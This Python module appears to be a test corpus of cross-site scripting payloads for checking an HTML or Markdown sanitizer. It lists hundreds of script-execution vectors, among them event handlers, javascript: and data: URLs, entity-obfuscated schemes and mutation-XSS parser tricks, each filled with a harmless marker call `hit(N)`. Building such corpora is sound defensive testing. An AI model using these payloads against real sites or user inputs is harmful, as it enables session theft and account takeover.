"""Ways in which HTML runs a script, as the public lists have them, each calling `hit(N)`."""

from __future__ import annotations

import base64

# One a line; a newline within one is written ⏎.
# Run by themselves when parsed as HTML (by some browser, at some time).
AT_ONCE = """
<script>X</script>
<SCRIPT>X</SCRIPT>
<ScRiPt >X</sCrIpT >
<script/x>X</script>
<script\t>X</script\t>
<script>X//
<script src="data:text/javascript,X"></script>
<script src=data:,X></script>
<script type=module>X</script>
<<script>X//<</script>
<scr<script>ipt>X</scr</script>ipt>
<script><!--⏎X</script>
"><script>X</script>
'><script>X</script>
--><script>X</script>
]]><script>X</script>
</title><script>X</script>
</style><script>X</script>
</textarea><script>X</script>
</script><script>X</script>
</pre></div></section></main><script>X</script>
<img src=x onerror=X>
<IMG SRC=x OnErRoR=X>
<img src=x onerror="X">
<img src=x onerror='X'>
<img src=x onerror=`X`>
<img/src=x/onerror=X>
<img⏎src=x⏎onerror=X>
<img\x0csrc=x\x0conerror=X>
<img src=x:x onerror\x0b=X>
<img src=x onerror\x00=X>
<img src=`x`onerror=X>
<img src='x'onerror=X>
<img src="x"onerror=X>
<img ""><script>X</script>">
<img src=x onerror=&#88;&#61;1;X>
<img src=x onerror="&#104;&#105;&#116;(N)">
<img src=x onerror="&#x68;&#x69;&#x74;(N)">
<img src=x onerror="&#0000104&#0000105&#0000116(N)">
<img src=x onerror="eval(atob('B64'))">
<img src=x onerror=window['h'+'it'](N)>
<img srcset=x onerror=X>
<img src=x alt="<script>X</script>" onerror=X>
<img src=/ onerror=X//
<image src=x onerror=X>
<image href=x onerror=X>
<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload=X>
<svg onload=X>
<svg/onload=X>
<svg onload=X//
<svg><script>X</script></svg>
<svg><script>&#104;&#105;&#116;(N)</script></svg>
<svg><script xlink:href=data:,X></script></svg>
<svg><script href=data:,X /></svg>
<svg><g onload=X></g></svg>
<svg><animate onbegin=X attributeName=x dur=1s>
<svg><set onbegin=X attributename=x></svg>
<svg><animateTransform onbegin=X>
<svg><image href=x onerror=X>
<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='X'/></svg>#x"></use></svg>
<svg><foreignObject><img src=x onerror=X></foreignObject></svg>
<svg><foreignObject><iframe srcdoc="<script>X</script>"></iframe></foreignObject></svg>
<svg><title><img src=x onerror=X></title></svg>
<svg><desc><img src=x onerror=X></desc></svg>
<svg><style><img src=x onerror=X></style></svg>
<svg><style>&lt;img src=x onerror=X&gt;</style></svg>
<svg></p><style><a id="</style><img src=x onerror=X>">
<svg><p><style><a id="</style><img src=x onerror=X>">
<svg><a><title>x</title></a><script>X</script></svg>
<math><mtext><table><mglyph><style><img src=x onerror=X></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=X&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=X>
<math><mi><style><!--</style><img src=x onerror=X>--></mi></math>
<math><annotation-xml encoding="text/html"><style><img src=x onerror=X></style></annotation-xml></math>
<math><annotation-xml><foreignobject><style><!--</style><p id="--><img src=x onerror=X>">
<svg><annotation-xml><foreignobject><style><!--</style><p id="--!&gt;&lt;img src=x onerror=X&gt;">
<math></p><style><!--</style><img src/onerror=X>--></style></math>
<svg></br><style><!--</style><img src=x onerror=X>--></style>
<math><br><img src=x onerror=X></math>
<svg><noscript><p title="</noscript><img src=x onerror=X>"></svg>
<noscript><p title="</noscript><img src=x onerror=X>">
<noembed><p title="</noembed><img src=x onerror=X>">
<noframes><p title="</noframes><img src=x onerror=X>">
<xmp><p title="</xmp><img src=x onerror=X>">
<plaintext><img src=x onerror=X>
<textarea><p title="</textarea><img src=x onerror=X>">
<title><p title="</title><img src=x onerror=X>">
<style><p title="</style><img src=x onerror=X>">
<iframe><p title="</iframe><img src=x onerror=X>">
<template><img src=x onerror=X></template>
<template><style></template><img src=x onerror=X></style></template>
<select><template><img src=x onerror=X></template></select>
<select><iframe></select><img src=x onerror=X>
<select><option><style></option></select><img src=x onerror=X></style>
<select><xmp></select><img src=x onerror=X></xmp>
<keygen><script>X</script>
<!--><img src=x onerror=X>-->
<!---><img src=x onerror=X>-->
<!--<img src="--><img src=x onerror=X>">
<!-- --!><img src=x onerror=X> -->
<![CDATA[<img src=x onerror=X>]]>
<svg><![CDATA[><img src=x onerror=X>]]></svg>
<?xml version="1.0"?><img src=x onerror=X>
<? <img src=x onerror=X> ?>
</ <img src=x onerror=X>
<!DOCTYPE x [<!ENTITY e "<img src=x onerror=X>">]><x>&e;</x><img src=x onerror=X>
<body onload=X>
<body onpageshow=X>
<frameset onload=X>
<frameset><frame src="javascript:parent.X"></frameset>
<iframe src="javascript:parent.X"></iframe>
<iframe src="jAvAsCrIpT:parent.X"></iframe>
<iframe src=" javascript:parent.X"></iframe>
<iframe src="java\tscript:parent.X"></iframe>
<iframe src="java⏎script:parent.X"></iframe>
<iframe src="&#1;javascript:parent.X"></iframe>
<iframe src="data:text/html,<script>parent.X</script>"></iframe>
<iframe srcdoc="<script>parent.X</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=parent.X&gt;"></iframe>
<iframe onload=X></iframe>
<embed src="javascript:X">
<embed src="data:text/html,<script>X</script>" onload=X>
<object data="javascript:X"></object>
<object data="data:text/html,<script>X</script>" onload=X></object>
<object onerror=X data=x></object>
<video onerror=X><source></video>
<video src=x onerror=X></video>
<video><source onerror=X></video>
<audio src=x onerror=X></audio>
<audio src onloadstart=X>
<video poster=x onloadstart=X><source src=x>
<track onerror=X src=x default>
<link rel=stylesheet href="data:text/css," onload=X>
<link rel=stylesheet href=x onerror=X>
<style onload=X></style>
<style>@import "data:text/css,";</style><style onload=X>*{color:red}</style>
<meta http-equiv=refresh content="0;url=javascript:X">
<meta http-equiv=refresh content="0;url=data:text/html,<script>X</script>">
<base href="javascript:X//"><a href=#>a</a><script src=x></script>
<input autofocus onfocus=X>
<input onfocus=X autofocus type=image src=x onerror=X>
<textarea autofocus onfocus=X></textarea>
<select autofocus onfocus=X></select>
<button autofocus onfocus=X>b</button>
<a autofocus onfocus=X href=#>a</a>
<p autofocus tabindex=1 onfocus=X>p</p>
<details open ontoggle=X>d</details>
<details ontoggle=X open><summary>s</summary></details>
<marquee onstart=X>m</marquee>
<marquee loop=1 width=0 onfinish=X>m</marquee>
<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart=X>p</p>
<style>@keyframes k{}</style><p style="animation-name:k" onanimationend=X>p</p>
<p style="transition:color 1s" ontransitionrun=X onanimationstart=X>p</p>
<p contenteditable autofocus onfocus=X>p</p>
<p id=x tabindex=0 onfocusin=X autofocus>p</p>
<isindex type=image src=1 onerror=X>
<input type=image src=x onerror=X>
<x onclick=X tabindex=1 autofocus onfocus=X>x
<table background="javascript:X"><td background="javascript:X">t</table>
<div style="background-image:url(javascript:X)">d</div>
<div style="width:expression(X)">d</div>
<div style="behavior:url(#default#time2)" onbegin=X>d</div>
<div style="-moz-binding:url(data:text/xml,X)">d</div>
<style>*{background:url("javascript:X")}</style>
<xml id=i><x><c><![CDATA[<img src="javas]]><![CDATA[cript:X">]]></c></x></xml><span datasrc=#i datafld=c dataformatas=html></span>
<bgsound src="javascript:X">
<layer src="javascript:X"></layer>
<img dynsrc="javascript:X" lowsrc="javascript:X" src="javascript:X">
<img src="livescript:X"><img src='vbscript:X'>
<br size="&{X}">
<div><img src=x onerror=X></div
<a title="</a><img src=x onerror=X>">t</a><img src=x title="`><img src=x onerror=X>`">
<p title="a&quot;><img src=x onerror=X>">p</p>
<img alt="&quot;><script>X</script>" src=x onerror=X>
<td colspan='1"><img src=x onerror=X>'>t</td>
<p style="color:red;font-family:'</style><img src=x onerror=X>'">p</p>
<table><tr><td><style></td></tr></table><img src=x onerror=X></style>
<table><caption><svg><table><caption></svg><img src=x onerror=X>
<b><p><table><i></b><script>X</script>
<a><table><a><img src=x onerror=X>
<dialog open onclose=X><form method=dialog><button autofocus onfocus=X>b</dialog>
<portal src="javascript:X"></portal>
<applet code=x onerror=X></applet><img src=x onerror=X>
""".strip("\n").split("\n")

# Run when somebody clicks, points, types, or follows a link.
LATER = """
<a href="javascript:X">a</a>
<a href=javascript:X>a</a>
<a href="JaVaScRiPt:X">a</a>
<a href=" javascript:X">a</a>
<a href="\x01javascript:X">a</a>
<a href="\x00javascript:X">a</a>
<a href="java\x00script:X">a</a>
<a href="java&#9;script:X">a</a>
<a href="java&#10;script:X">a</a>
<a href="java&#13;script:X">a</a>
<a href="java&Tab;script:X">a</a>
<a href="java&NewLine;script:X">a</a>
<a href="javascript&colon;X">a</a>
<a href="javascript&#58;X">a</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;X">a</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;X">a</a>
<a href="&#0000106&#0000097vascript:X">a</a>
<a href="javascript://%0aX">a</a>
<a href="javascript:/*http://example.org*/X">a</a>
<a href="http:javascript:X">a</a>
<a href="//javascript:X">a</a>
<a href="javascript:javascript:X">a</a>
<a href="view-source:javascript:X">a</a>
<a href="feed:javascript:X">a</a>
<a href="vbscript:X">a</a>
<a href="data:text/html,<script>X</script>">a</a>
<a href="data:text/html;base64,B64HTML">a</a>
<a href="DATA:text/html,<script>X</script>">a</a>
<a href="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='X'/>">a</a>
<a href="data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>X</x:script>">a</a>
<a href="blob:https://example.org/X">a</a>
<a href="filesystem:http://example.org/X">a</a>
<a href="file:///etc/passwd">a</a>
<a href="#" onclick=X>a</a>
<a href="#" onmouseover="X">a</a>
<a href=# ping="http://example.org/ping" onclick=X>a</a>
<a href="javascript:X" target=_blank>a</a>
<area href="javascript:X"><map name=m><area shape=default href="javascript:X"></map><img usemap=#m src=x>
<svg><a href="javascript:X"><text y=20>a</text></a></svg>
<svg><a xlink:href="javascript:X"><text y=20>a</text></a></svg>
<svg><a><set attributeName=href to="javascript:X"></set><text y=20>a</text></a></svg>
<svg><a><animate attributeName=href values="javascript:X"></animate><text y=20>a</text></a></svg>
<math href="javascript:X">m</math>
<math><maction actiontype="statusline#x" xlink:href="javascript:X">m</maction></math>
<form action="javascript:X"><input type=submit></form>
<form><button formaction="javascript:X">b</button></form>
<form id=f></form><button form=f formaction="javascript:X">b</button>
<input type=submit formaction="javascript:X" form=f>
<isindex action="javascript:X" type=submit>
<div onmouseover=X>d</div>
<div onpointerenter=X onmouseenter=X onmousemove=X>d</div>
<p onclick=X onauxclick=X ondblclick=X oncontextmenu=X>p</p>
<p oncopy=X onpaste=X oncut=X>p</p>
<p ondragstart=X draggable=true>p</p>
<p onwheel=X onscroll=X onscrollend=X>p</p>
<p onkeydown=X onkeypress=X onbeforeinput=X contenteditable>p</p>
<details ontoggle=X><summary>s</summary></details>
<img onclick=X src=data:image/gif;base64,R0lGODlhAQABAAAAACw=>
<td onmouseover=X>t</td>
<button popovertarget=x>b</button><p popover id=x onbeforetoggle=X>p</p>
<input type=hidden oncontentvisibilityautostatechange=X style=content-visibility:auto>
<p accesskey=x onclick=X>p</p>
<blockquote cite="javascript:X">q</blockquote>
<table><tr><td background="javascript:X"><a href="javas\tcript:X">a</a></td></tr></table>
""".strip("\n").split("\n")

IN_MARKDOWN = """
[a](javascript:X)
[a](JaVaScRiPt:X)
[a]( javascript:X)
[a](javascript&colon;X)
[a](javascript&#58;X)
[a](&#106;avascript:X)
[a](<javascript:X>)
[a](<java\tscript:X>)
[a](javascript://example.org/%0aX)
[a](data:text/html,<script>X</script>)
[a](data:text/html;base64,B64HTML)
[a](x "onmouseover=X")
[a](x" onmouseover="X)
[a](x 'a" onmouseover="X')
![a](javascript:X)
![a](x"onerror="X)
![a" onerror="X](x)
![a](x "a" onerror="X")
![a](x" onload="X)
![a](https://example.org/x.png"onerror="X)
![a](data:image/svg+xml,<svg/onload=X>)
![<img src=x onerror=X>](x)
![a](attachment:x" onerror="X)
<javascript:X>
<a@b.c"onmouseover="X>
[a]: javascript:X
[a][b]
[b]: javascript:X
[b]: x "t" onmouseover="X"
**<img src=x onerror=X>**
`<img src=x onerror=X>`
    <img src=x onerror=X>
```html
<img src=x onerror=X>
```"><img src=x onerror=X>
```" onmouseover="X
code
```
```<img src=x onerror=X>
code
```
# <img src=x onerror=X>
# "><img src=x onerror=X>
# a {#x" onmouseover="X}
# <a href="javascript:X">h</a>
| <img src=x onerror=X> |
|---|
| [a](javascript:X) |
$<img src=x onerror=X>$
$$<img src=x onerror=X>$$
$$
</pre><img src=x onerror=X>
$$
- [x] <img src=x onerror=X>
~~<img src=x onerror=X>~~
note[^1"onmouseover="X]
[^1"onmouseover="X]: <img src=x onerror=X>
[^<img src=x onerror=X>]: n
> <img src=x onerror=X>
<div
onmouseover=X>
<!-- x --><img src=x onerror=X>
\\<img src=x onerror=X>
&lt;img src=x onerror=X&gt;
<a href="`javascript:X`">a</a>
[a](\\javascript:X)
[![a](x)](javascript:X)
""".strip("\n").split("\n")


def numbered(attacks: list[str], first: int = 0) -> list[str]:
    """Give each attack its number: `hit(17)`."""
    return [_filled(attack, first + index) for index, attack in enumerate(attacks)]


def _filled(attack: str, number: int) -> str:
    call = f"hit({number})"
    plain = base64.b64encode(call.encode()).decode()
    page = base64.b64encode(f"<script>{call}</script>".encode()).decode()
    return attack.replace("B64HTML", page).replace("B64", plain).replace("(N)", f"({number})").replace("X", call).replace("⏎", "\n")


HTML = AT_ONCE + LATER
